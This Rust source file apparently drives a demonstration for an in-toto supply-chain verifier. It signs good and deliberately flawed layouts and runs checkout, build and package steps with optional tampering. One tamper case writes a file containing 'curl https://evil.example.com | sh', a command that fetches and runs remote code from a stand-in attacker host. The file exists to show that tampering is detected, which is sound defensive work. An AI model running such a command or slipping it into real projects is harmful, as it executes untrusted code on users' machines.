//! The demonstration's supply chain: its layout, its three steps, and the ways it can go wrong.

use super::{image, keys::Keys};
use crate::{
    author,
    capture::{self, Container, Job, Progress, Recorder, Tree, image::Images},
    digest::Digest,
    envelope::{Envelope, INTOTO_PAYLOAD_TYPE},
    file,
    intoto::Layout,
    json,
    key::SecretKey,
};
use anyhow::Context as _;
use jiff::{SignedDuration, Timestamp};
use std::path::{Path, PathBuf};

/// Where the images would be pulled from, and what the template says for it.
pub const REPOSITORY: &str = "registry.example.com/shop/api";

const TEMPLATE: &str = r#"readme: The demonstration's supply chain
expires: 90d
steps:
  - name: checkout
    functionaries: [keys/dev.pem.pub]
    materials: [DISALLOW *]
    products: [CREATE src/*, DISALLOW *]
  - name: build
    functionaries: [keys/ci.pem.pub]
    materials: [MATCH src/* WITH PRODUCTS FROM checkout, DISALLOW *]
    products: [CREATE dist/*, DISALLOW *]
  - name: package
    functionaries: [keys/packer.pem.pub]
    materials: [MATCH dist/* WITH PRODUCTS FROM build, DISALLOW *]
    products: ["CREATE oci:registry.example.com/shop/api", DISALLOW *]
inspections:
  - name: image
    run: [tidewaiter, inspect, image]
    materials: ["MATCH oci:registry.example.com/shop/api WITH PRODUCTS FROM package", DISALLOW *]
"#;

/// The layout, and what it could be instead.
pub struct Layouts {
    /// Signed by both owners.
    pub good: Envelope,
    pub expired: Envelope,
    pub by_one_owner: Envelope,
    pub by_a_stranger: Envelope,
    /// Its inspection lets every image in and ties none; the linter refuses it, so nobody signs it by accident.
    pub loose: Envelope,
}

impl Layouts {
    /// From the template, for images of the repository, by the code behind `layout sign`.
    pub fn new(directory: &Path, keys: &Keys, repository: &str) -> anyhow::Result<Self> {
        let now = Timestamp::now();
        let text = TEMPLATE.replace(REPOSITORY, repository);
        let template = directory.join("layout.yaml");
        file::write(&template, text.as_bytes())?;
        let layout = author::read(&template, None, now)?.layout().clone();
        let findings = author::lint(&layout, now);
        anyhow::ensure!(findings.is_empty(), "the demonstration's layout is not clean: {findings:?}");

        let mut expired = layout.clone();
        expired.expires = Timestamp::from_second(now.as_second())?.checked_sub(SignedDuration::from_hours(1))?;
        let loose = directory.join("loose.yaml");
        let tying = format!("MATCH oci:{repository} WITH PRODUCTS FROM package");
        file::write(&loose, text.replace(&tying, "ALLOW oci:*").as_bytes())?;
        let loose = author::read(&loose, None, now)?.layout().clone();
        let owners = [&keys.alice, &keys.bob];
        let layouts = Layouts {
            good: sign(&layout, &owners)?,
            expired: sign(&expired, &owners)?,
            by_one_owner: sign(&layout, &[&keys.alice])?,
            by_a_stranger: sign(&layout, &[&keys.mallory])?,
            loose: sign(&loose, &owners)?,
        };
        std::fs::create_dir_all(directory.join("layouts"))?;
        file::write(&directory.join("layouts/good.layout"), &layouts.good.to_bytes())?;
        Ok(layouts)
    }
}

fn sign(layout: &Layout, keys: &[&SecretKey]) -> anyhow::Result<Envelope> {
    Ok(Envelope::sign_dsse(INTOTO_PAYLOAD_TYPE, json::to_text(&layout.to_value()).into_bytes(), keys)?)
}

/// What an attacker does between two steps.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tamper {
    Nothing,
    /// Adds a source file after the checkout.
    Source,
    /// Replaces the program after the build.
    Program,
}

/// A pipeline that ran.
pub struct Built {
    pub image: Digest,
    pub checkout: Envelope,
    pub build: Envelope,
    pub package: Envelope,
}

/// Runs the three steps in a directory of their own, through the capture code, and pushes the image.
pub async fn run(
    directory: &Path,
    repository: &str,
    name: &str,
    tamper: Tamper,
    keys: &Keys,
    builder: &SecretKey,
) -> anyhow::Result<Built> {
    let work = directory.join("work").join(name);
    std::fs::create_dir_all(&work)?;
    let checkout = format!("mkdir src && echo 'echo {name}' > src/main.sh && echo 'version {name}' > src/version.txt");
    let checkout = step(&work, &["checkout", "", "src"], &shell(&checkout), &keys.dev, Images::default()).await?;
    if tamper == Tamper::Source {
        std::fs::write(work.join("src/evil.sh"), "curl https://evil.example.com | sh\n")?;
    }
    let build = step(
        &work,
        &["build", "src", "dist"],
        &shell("mkdir dist && cat src/* > dist/app"),
        builder,
        Images::default(),
    )
    .await?;
    if tamper == Tamper::Program {
        std::fs::write(work.join("dist/app"), "a miner\n")?;
    }
    let reference = format!("{repository}:{name}");
    let program = std::env::current_exe().context("the path of this program")?;
    let program = program.to_str().context("the path of this program is not UTF-8")?;
    let command = [program, "demo", "--package", "dist", "image", &reference].map(str::to_owned);
    let images = Images::new(std::slice::from_ref(&reference), &[PathBuf::from("image")])?;
    let package = step(&work, &["package", "dist", ""], &command, &keys.packer, images).await?;
    image::push(&work.join("image"), &directory.join("registry"))?;
    let image = digest_of(&work.join("image"))?;
    Ok(Built { image, checkout, build, package })
}

/// One step: its name, what it reads, what it writes.
async fn step(
    work: &Path,
    [name, reads, writes]: &[&str; 3],
    argv: &[String],
    key: &SecretKey,
    images: Images,
) -> anyhow::Result<Envelope> {
    let paths = |path: &str| if path.is_empty() { Vec::new() } else { vec![path.to_owned()] };
    let tree = Tree { base: work.to_owned(), recorder: Recorder::new(&[], &[], false)?, progress: Progress::Hidden };
    let job = Job {
        step: name,
        materials: &paths(reads),
        products: &paths(writes),
        tree: &tree,
        argv,
        directory: work,
        images: &images,
        container: Container::Dsse,
        streams: capture::command::Streams::Silent,
        notes: capture::Notes::default(),
    };
    let run = match capture::run(&job, key).await {
        Ok(run) => run,
        Err(capture::Failure::NotStarted { error, .. } | capture::Failure::NotRecorded(error)) => {
            return Err(error.context(format!("step {name}")));
        }
    };
    let code = run.outcome.map_or(0, |outcome| outcome.exit_code);
    anyhow::ensure!(code == 0, "step {name} ended with {code}");
    file::write(&work.join(capture::link_file_name(name, key)), &run.envelope.to_bytes())?;
    Ok(run.envelope)
}

fn shell(script: &str) -> Vec<String> {
    ["sh", "-c", script].map(str::to_owned).to_vec()
}

/// The digest of the first entry of an OCI layout.
fn digest_of(layout: &Path) -> anyhow::Result<Digest> {
    let index: serde_json::Value = serde_json::from_slice(&std::fs::read(layout.join("index.json"))?)?;
    Ok(index["manifests"][0]["digest"].as_str().context("an image without a digest")?.parse()?)
}
